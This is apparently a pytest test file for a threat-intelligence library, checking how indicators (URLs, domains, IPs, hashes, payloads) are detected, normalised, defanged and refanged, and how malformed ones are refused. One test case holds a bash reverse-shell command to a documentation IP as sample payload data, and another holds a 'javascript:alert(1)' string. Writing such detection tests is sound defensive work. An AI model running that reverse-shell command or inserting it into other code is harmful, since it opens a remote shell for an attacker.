"""Indicator type detection, normalisation, refanging, and malformed targets refused."""

from __future__ import annotations

import pytest

from rampart_threat.analysis.detect import defang, detect, refang
from rampart_threat.analysis.domain import IndicatorTooLarge, InvalidIndicator, Kind


@pytest.mark.parametrize(
    ("raw", "subtype", "normalized"),
    [
        ("HTTPS://Example.COM:443/a?b=1", "url", "https://example.com/a?b=1"),
        ("hxxp://evil[.]example/x", "url", "http://evil.example/x"),
        ("www.example.org/login", "url", "http://www.example.org/login"),
        ("Example.ORG.", "domain", "example.org"),
        ("bücher.de", "domain", "xn--bcher-kva.de"),
        ("192.0.2.7", "ipv4", "192.0.2.7"),
        ("2001:DB8:0:0::1", "ipv6", "2001:db8::1"),
        ("D41D8CD98F00B204E9800998ECF8427E", "md5", "d41d8cd98f00b204e9800998ecf8427e"),
        ("da39a3ee5e6b4b0d3255bfef95601890afd80709", "sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        (
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "sha256",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "payload", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ("javascript:alert(1)", "url", "javascript:alert(1)"),
    ],
)
def test_the_type_is_detected_and_the_indicator_normalised(raw: str, subtype: str, normalized: str) -> None:
    target = detect(raw, None)
    assert (target.subtype, target.normalized) == (subtype, normalized)


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        ("999.1.1.1", None),
        ("http://", None),
        ("http://exa mple.com", Kind.URL),
        ("abc", Kind.IP),
        ("not-a-hash", Kind.HASH),
        ("under_score..com", Kind.DOMAIN),
        ("   ", None),
        ("https://a.example:99999/", None),
    ],
)
def test_a_malformed_indicator_is_refused(raw: str, kind: Kind | None) -> None:
    with pytest.raises(InvalidIndicator):
        detect(raw, kind)


def test_an_explicit_type_wins_over_detection() -> None:
    assert detect("example.com", Kind.PAYLOAD).kind is Kind.PAYLOAD
    assert detect("http://example.com/", Kind.URL).kind is Kind.URL


def test_a_payload_over_1_mib_is_too_large() -> None:
    with pytest.raises(IndicatorTooLarge):
        detect("A" * (1024 * 1024 + 1), Kind.PAYLOAD)


def test_defang_and_refang_are_inverse_for_urls() -> None:
    assert defang("http://evil.example/a") == "hxxp://evil[.]example/a"
    assert refang(defang("http://evil.example/a")) == "http://evil.example/a"
